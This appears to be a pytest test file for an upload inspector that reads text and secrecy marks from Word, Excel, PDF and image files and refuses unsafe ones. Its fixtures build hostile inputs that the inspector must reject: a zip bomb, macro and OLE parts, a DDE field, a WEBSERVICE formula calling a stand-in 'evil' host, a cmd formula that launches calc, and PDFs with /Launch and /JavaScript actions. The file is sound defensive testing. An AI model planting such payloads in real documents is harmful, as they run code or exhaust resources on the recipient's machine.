"""What is in a file: its words are read, and whatever hides in it is refused before it can do anything."""

import io
import struct
import time
import zipfile

import pytest
from PIL import Image

from submissions import secrecy
from submissions.inspection import Budget, Unfit, inspect
from submissions.tests.papers import changed, pdf, picture, related, sheet, with_part, with_text, word

pytestmark = pytest.mark.once

WORD, SHEET = word("一段话"), sheet("一格")
OPEN = "application/vnd.openxmlformats-officedocument"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def encrypted_zip() -> bytes:
    content = bytearray(WORD)
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def bomb(size: int = 151_000_000) -> bytes:
    """A few hundred kilobytes that would become 151 MB."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "x")
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            for _ in range(size // 1_000_000):
                part.write(b"<c/>" * 250_000)
    return made.getvalue()


def lying(size: int) -> bytes:
    """A file whose directory says that a part is small."""
    content = bytearray(changed(WORD, "word/media/x.xml", lambda old: b"<a>" + b"b" * 30_000_000 + b"</a>"))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(content)


def part(xml: str) -> bytes:
    return f'<a xmlns:w="{W}">{xml}</a>'.encode()


def cell(formula: str) -> bytes:
    return changed(
        SHEET, "xl/worksheets/sheet1.xml", lambda old: old.replace(b"</row>", f"<c><f>{formula}</f></c></row>".encode())
    )


def renamed_part() -> bytes:
    """A valid Word file whose text lies in a part of another name."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word("机密★十年"))) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            content = old.read(name).replace(b"word/document.xml", b"word/document.dat")
            new.writestr(name.replace("document.xml", "document.dat"), content)
    return made.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("a.docx", word("机密★十年", "第二段"), "机密★十年\n第二段"),
        ("A.DOCX", WORD, "一段话"),
        ("a.xlsx", sheet("内部资料", "数"), "内部资料\n数"),
        ("a.pdf", pdf("秘密★一年"), "秘密★一年"),
        ("a.docx", related(WORD, "hyperlink", "https://example.cn", "External"), "一段话"),
    ],
)
def test_the_words_of_a_file_are_read(name, content, words):
    assert words in inspect(name, content).words


@pytest.mark.parametrize(
    "content",
    [
        with_part(WORD, "word/header1.xml", f"{OPEN}.wordprocessingml.header+xml", part("<w:p><w:t>机密★</w:t></w:p>")),
        with_part(WORD, "word/header1.xml", f"{OPEN}.wordprocessingml.header+xml", part('<v string="机密★10年"/>')),
        with_part(WORD, "word/numbering.xml", f"{OPEN}.x+xml", part('<w:lvlText w:val="机密★%1"/>')),
        with_part(WORD, "docProps/custom.xml", f"{OPEN}.custom-properties+xml", part("<lpwstr>机密★</lpwstr>")),
        changed(WORD, "docProps/core.xml", lambda old: part("<title>机密★</title>")),
        changed(WORD, "docProps/app.xml", lambda old: part("<Company>机密★</Company>")),
        with_text(WORD, '<w:p><w:drawing><docPr descr="机密★"/></w:drawing></w:p>'),
        changed(SHEET, "xl/workbook.xml", lambda old: old.replace(b'name="Sheet"', 'name="机密★"'.encode())),
        changed(SHEET, "xl/worksheets/sheet1.xml", lambda old: part("<oddHeader>机密★</oddHeader>")),
        renamed_part(),
    ],
    ids=lambda content: str(len(content)),
)
def test_a_mark_is_found_wherever_it_stands_in_word_and_excel(content):
    name = "a.xlsx" if b"xl/workbook.xml" in content else "a.docx"
    assert secrecy.marks(inspect(name, content).words)


def test_a_mark_is_found_in_what_a_scan_says_of_itself():
    inspected = inspect("a.pdf", pdf(title="机密★十年"))
    assert secrecy.marks(inspected.words)
    assert not inspected.legible


@pytest.mark.parametrize("name", ["a.png", "a.jpg", "a.jpeg"])
def test_a_picture_has_no_words(name):
    made = picture("PNG" if name.endswith("png") else "JPEG")
    assert inspect(name, made).words == ""
    assert inspect(name, made).kind in ("png", "jpg")


def test_a_phones_picture_with_a_second_one_behind_it_is_a_jpg():
    made = io.BytesIO()
    second = Image.new("L", (8, 6))
    Image.new("L", (80, 60)).save(made, "MPO", save_all=True, append_images=[second])
    assert inspect("a.jpg", made.getvalue()).kind == "jpg"


def test_a_scan_is_told_from_a_text():
    assert not inspect("a.pdf", pdf()).legible
    assert inspect("a.pdf", pdf("字")).legible


MACRO = with_part(WORD, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
OLE = f"{OPEN}.oleObject"


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("a.docx", MACRO, "宏"),
        ("a.docx", with_part(WORD, "word/x.bin", "application/vnd.ms-office.vbaProject"), "宏"),
        (
            "a.docx",
            changed(
                WORD,
                "[Content_Types].xml",
                lambda old: old.replace(
                    f"{OPEN}.wordprocessingml.document.main+xml".encode(),
                    b"application/vnd.ms-word.document.macro&#69;nabled.main+xml",
                ),
            ),
            "宏",
        ),
        ("a.docx", with_part(WORD, "word/embeddings/x.bin", OLE), "对象"),
        ("a.docx", with_part(WORD, "word/media/x.bin", OLE), "对象"),
        ("a.docx", with_part(WORD, "word/media/x.exe", "application/octet-stream"), "嵌入的文件"),
        ("a.docx", changed(WORD, "word/media/x.exe", lambda old: b"MZ"), "来历不明"),
        ("a.docx", changed(WORD, "word\\embeddings\\x.exe", lambda old: b"MZ"), "不合规矩"),
        ("a.docx", with_part(WORD, "word/activeX/a.xml", "application/vnd.ms-office.activeX+xml"), "控件"),
        ("a.docx", with_part(WORD, "word/embeddings/x.xlsx", f"{OPEN}.spreadsheetml.sheet", MACRO), "不是 .xlsx|宏"),
        ("a.docx", with_part(WORD, "word/x.xlsx", f"{OPEN}.spreadsheetml.sheet", SHEET), "嵌入的文件"),
        ("a.docx", encrypted_zip(), "加密"),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, "加密的，或者是旧格式"),
        ("a.docx", related(WORD, "attachedTemplate", "http://evil/x.dotm", "External"), "别处的模板"),
        ("a.docx", related(WORD, "image", "http://evil/x.png", "External"), "别处的模板"),
        ("a.docx", related(WORD, "oleObject", "media/x.png"), "对象"),
        ("a.docx", related(WORD, "package", "media/x.png"), "嵌入的文件"),
        ("a.xlsx", with_part(SHEET, "xl/x.xml", f"{OPEN}.spreadsheetml.externalLink+xml", b"<a/>"), "别处的工作簿"),
        ("a.xlsx", changed(SHEET, "xl/externalLinks/externalLink1.xml", lambda old: b"<a/>"), "别处的工作簿"),
        ("a.docx", changed(WORD, "word/vbaProject.bin", lambda old: b"x"), "宏"),
        ("a.docx", with_text(WORD, "<w:p><w:instrText>DD</w:instrText><w:instrText>eauto x</w:instrText></w:p>"), "域"),
        ("a.docx", with_text(WORD, '<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'), "域"),
        ("a.xlsx", cell('_xlfn.WEBSERVICE("http://evil/")'), "公式"),
        ("a.xlsx", cell("cmd|'/c calc'!A1"), "公式"),
        ("a.docx", changed(WORD, "word/x.xml", lambda old: b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "读不懂"),
        ("a.xlsx", bomb(), "展开以后有"),
        ("a.docx", lying(100), "没有打开|损坏"),
        ("a.xlsx", WORD, "不是 .xlsx 文件"),
        ("a.docx", SHEET, "不是 .docx 文件"),
        ("a.docx", picture(), "打不开"),
        ("a.docx", WORD[: len(WORD) // 2], "打不开"),
        ("a.pdf", pdf("字", encrypted=True), "加密"),
        ("a.pdf", pdf("字", action="/JavaScript"), "一打开就执行"),
        ("a.pdf", pdf("字", action="/URI"), "一打开就执行"),
        ("a.pdf", pdf("字", action="/Launch", key="/A"), "会自己执行"),
        ("a.pdf", pdf("字", action="/GoToR", key="/A"), "会自己执行"),
        ("a.pdf", pdf("字", action="/GoTo", key="/AA"), "自动执行"),
        ("a.pdf", pdf("字", attached=True), "别的文件"),
        ("a.pdf", b"%PDF-1.7\n" + b"x" * 500, "读不懂"),
        ("a.pdf", WORD, "不是 .pdf"),
        ("a.png", picture("JPEG"), "是 JPEG"),
        ("a.jpg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "不是 .jpg 图片"),
        ("a.png", picture()[:40], "损坏"),
        ("a.jpg", picture("JPEG", (400, 300))[:-300], "损坏"),
        ("a.png", picture(size=(12_000, 8_000)), "太大"),
        ("a.svg", b"<svg/>", "不收 .svg"),
        ("a.html", b"<script>", "不收 .html"),
        ("a", b"x", "不收 .a"),
        ("a.docm", WORD, "不收 .docm"),
        ("a.png", b"", "空的"),
    ],
)
def test_what_hides_something_or_is_something_else_is_refused(name, content, said):
    with pytest.raises(Unfit, match=said):
        inspect(name, content)


def test_a_charts_workbook_is_looked_into_and_kept():
    chart = with_part(WORD, "word/embeddings/x.xlsx", f"{OPEN}.spreadsheetml.sheet", sheet("图里的数"))
    assert "图里的数" in inspect("a.docx", chart).words


def test_a_bomb_is_refused_before_it_is_unpacked():
    """Measured in one run: looking at the directory against unpacking it, as the naive way does."""
    content = bomb()
    began = time.perf_counter()
    with pytest.raises(Unfit):
        inspect("a.xlsx", content)
    looked = time.perf_counter() - began
    began = time.perf_counter()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert len(archive.read("xl/worksheets/sheet1.xml")) > 150_000_000
    assert looked < (time.perf_counter() - began) / 5


@pytest.mark.parametrize(
    "xml", [b"<a>" + b"<b/>" * 2_100_000 + b"</a>", b"<a>" + b"x" * 9_000_000 + b"</a>"], ids=["elements", "text"]
)
def test_what_is_small_and_long_to_read_is_given_up(xml):
    with pytest.raises(Unfit, match="来不及检查"):
        inspect("a.docx", with_part(WORD, "word/x.xml", "application/xml", xml))


def test_what_lies_inside_draws_on_the_same_budget():
    inner = with_part(SHEET, "xl/x.xml", "application/xml", b"<a>" + b"x" * 400_000 + b"</a>")
    content = WORD
    for n in range(3):
        content = with_part(content, f"word/embeddings/{n}.xlsx", f"{OPEN}.spreadsheetml.sheet", inner)
    assert Budget.characters < 3 * 400_000
    with pytest.raises(Unfit, match="来不及检查"):
        inspect("a.docx", content)
